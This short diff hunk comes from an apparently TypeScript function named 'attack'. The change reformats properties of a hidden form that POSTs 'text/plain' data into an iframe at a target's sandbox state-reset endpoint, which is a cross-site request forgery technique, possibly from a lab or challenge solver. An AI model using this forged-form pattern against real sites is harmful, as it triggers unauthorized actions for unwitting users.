@@ -197,7 +197,9 @@ async function attack({ url, script }: { url: string; script: string }): Promise
   document.body.append(frame);
   const form = document.createElement("form");
   Object.assign(form, {
-    ...{ method: "POST", enctype: "text/plain", target: "answer" },
+    method: "POST",
+    enctype: "text/plain",
+    target: "answer",
     action: `${url}/sandbox/api/state/reset`,
   });
   document.body.append(form);
